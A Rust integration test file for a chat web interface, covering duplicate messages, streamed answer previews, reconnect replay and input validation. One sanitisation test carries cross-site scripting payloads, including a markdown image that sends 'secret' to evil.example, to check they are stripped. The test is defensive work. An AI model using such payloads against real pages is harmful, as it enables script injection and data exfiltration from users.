//! What is said, and what is seen of it.

use chat::{Activity, Body, ChatAdapter as _, FaultKind, Op, Preview};
use serde_json::{Value, json};
use testkit::http::{Ask, EventStream, StreamEvent};

use crate::world::World;

fn text(words: &str) -> Op {
    Op::Text(Body::Markdown(words.into()))
}

fn data(event: &StreamEvent) -> Value {
    serde_json::from_str(&event.data).unwrap()
}

async fn look(world: &World, cookie: &str, conversation: &str, after: &str) -> EventStream {
    let ask = Ask::get(format!("/api/conversations/{conversation}/events{after}"))
        .header("cookie", cookie);
    ask.listen(world.address).await.unwrap()
}

#[tokio::test]
async fn a_message_that_the_page_sends_twice_is_one_message() {
    let world = World::new().await;
    let cookie = world.log_in().await;
    let conversation = world.conversation(&cookie).await;
    let message =
        json!({ "id": "0b51a5c2-1111-4222-8333-444455556666", "text": "hello <b>there</b>" });
    let first = world.say(&cookie, &conversation, &message).await;
    let again = world.say(&cookie, &conversation, &message).await;
    assert_eq!((first.status, again.status), (202, 202));
    assert_eq!(first.json().unwrap(), again.json().unwrap());
    let heard = world.heard();
    assert_eq!(heard.len(), 1);
    assert_eq!(heard[0].chat, world.chat(&conversation));
    assert_eq!(heard[0].sender.id.as_str(), "owner");
    let entries = world.entries(&cookie, &conversation).await;
    assert_eq!(entries.len(), 1);
    assert_eq!(entries[0]["text"], "hello <b>there</b>");
    let list = world
        .send(Ask::get("/api/conversations").header("cookie", &cookie))
        .await
        .json()
        .unwrap();
    assert_eq!(list["conversations"][0]["title"], "hello <b>there</b>");
}

#[tokio::test]
async fn a_page_sees_the_answer_grow_and_then_the_final_entry() {
    let world = World::new().await;
    let cookie = world.log_in().await;
    let conversation = world.conversation(&cookie).await;
    let chat = world.chat(&conversation);
    let mut stream = look(&world, &cookie, &conversation, "").await;
    stream.until("idle").await.unwrap();
    world
        .say(&cookie, &conversation, &json!({ "id": "m1", "text": "hi" }))
        .await;
    let mine = data(&stream.until("entry").await.unwrap());
    assert_eq!(
        (&mine["author"], &mine["message"]),
        (&json!("person"), &json!("m1"))
    );

    world.web.activity(&chat, Activity::Typing).await;
    let busy = data(&stream.until("activity").await.unwrap());
    assert_eq!(busy["busy"]["after"], mine["id"]);
    let began = Activity::ToolBegan {
        id: "1".into(),
        tool: "shell".into(),
        detail: "ls".into(),
    };
    world.web.activity(&chat, began).await;
    assert_eq!(
        data(&stream.until("activity").await.unwrap())["step"]["detail"],
        "ls"
    );
    world.web.preview(&chat, Preview::Text("Hel".into())).await;
    assert_eq!(
        data(&stream.until("preview").await.unwrap())["html"],
        "<p>Hel</p>\n"
    );
    world.web.preview(&chat, Preview::Clear).await;
    stream.until("clear").await.unwrap();
    world
        .deliver(&conversation, &text("Hello"), 1)
        .await
        .unwrap();
    let last = stream.until("entry").await.unwrap();
    assert_eq!(last.id.as_deref(), Some("2"));
    assert_eq!(data(&last)["html"], "<p>Hello</p>\n");
    world.web.activity(&chat, Activity::Idle).await;
    stream.until("idle").await.unwrap();
}

#[tokio::test]
async fn a_page_that_comes_late_sees_what_is_going_on() {
    let world = World::new().await;
    let cookie = world.log_in().await;
    let conversation = world.conversation(&cookie).await;
    let chat = world.chat(&conversation);
    let began = Activity::ToolBegan {
        id: "1".into(),
        tool: "shell".into(),
        detail: "ls".into(),
    };
    world.web.activity(&chat, began).await;
    world.web.preview(&chat, Preview::Text("half".into())).await;
    let mut stream = look(&world, &cookie, &conversation, "").await;
    let run = data(&stream.until("activity").await.unwrap());
    assert_eq!(
        (&run["run"]["busy"], &run["run"]["steps"][0]["tool"]),
        (&json!(true), &json!("shell"))
    );
    assert_eq!(
        data(&stream.until("preview").await.unwrap())["html"],
        "<p>half</p>\n"
    );
}

#[tokio::test]
async fn a_page_that_was_away_gets_what_it_missed_and_nothing_twice() {
    let world = World::new().await;
    let cookie = world.log_in().await;
    let conversation = world.conversation(&cookie).await;
    for key in 1..=4 {
        world
            .deliver(&conversation, &text(&format!("part {key}")), key)
            .await
            .unwrap();
    }
    for (asked, header) in [("?after=2", "0"), ("", "2"), ("?after=1", "2")] {
        let ask = Ask::get(format!("/api/conversations/{conversation}/events{asked}"))
            .header("cookie", &cookie)
            .header("last-event-id", header);
        let mut stream = ask.listen(world.address).await.unwrap();
        let mut seen = Vec::new();
        loop {
            let event = stream.next().await.unwrap().unwrap();
            match event.event.as_str() {
                "entry" => seen.push(event.id.unwrap()),
                "idle" => break,
                _ => {}
            }
        }
        assert_eq!(seen, ["3", "4"], "{asked} {header}");
    }
}

#[tokio::test]
async fn a_part_that_is_delivered_twice_shows_once() {
    let world = World::new().await;
    let cookie = world.log_in().await;
    let conversation = world.conversation(&cookie).await;
    let receipt = world
        .deliver(&conversation, &text("once"), 9)
        .await
        .unwrap();
    let again = world
        .deliver(&conversation, &text("once"), 9)
        .await
        .unwrap_err();
    assert_eq!(
        again.kind,
        FaultKind::Duplicate {
            receipt: Some(receipt)
        }
    );
    assert_eq!(world.entries(&cookie, &conversation).await.len(), 1);
}

#[tokio::test]
async fn an_answer_can_not_smuggle_anything_into_the_page() {
    let world = World::new().await;
    let cookie = world.log_in().await;
    let conversation = world.conversation(&cookie).await;
    let answer = "<script>x()</script> <img src=x onerror=x()> [a](javascript:x()) ![p](https://evil.example/?d=secret)";
    world
        .deliver(&conversation, &text(answer), 1)
        .await
        .unwrap();
    let entries = world.entries(&cookie, &conversation).await;
    let html = entries[0]["html"].as_str().unwrap();
    for forbidden in ["<script", "<img", "href=\"javascript"] {
        assert!(!html.contains(forbidden), "{html}");
    }
}

#[tokio::test]
async fn what_can_not_be_sent_is_refused_in_words() {
    let world = World::new().await;
    let cookie = world.log_in().await;
    let conversation = world.conversation(&cookie).await;
    for (message, status) in [
        (json!({ "id": "m1", "text": " \u{200b} " }), 400),
        (json!({ "id": "", "text": "hi" }), 400),
        (json!({ "id": "m1", "words": "hi" }), 400),
        (
            json!({ "id": "m1", "text": "x".repeat(chat_web::LONGEST_TEXT + 1) }),
            413,
        ),
        (json!({ "id": "m1", "text": "x".repeat(3 << 20) }), 413),
    ] {
        let refused = world.say(&cookie, &conversation, &message).await;
        assert_eq!(refused.status, status, "{}", refused.text());
        assert!(refused.json().unwrap()["error"]["text"].is_string());
    }
    assert_eq!(
        world
            .say(&cookie, "nowhere", &json!({ "id": "m1", "text": "hi" }))
            .await
            .status,
        404
    );
    let strange = Ask::post("/api/conversations")
        .header("cookie", &cookie)
        .json(&json!({ "profile": "other" }));
    assert_eq!(world.send(strange).await.status, 404);
    assert!(world.heard().is_empty());
}
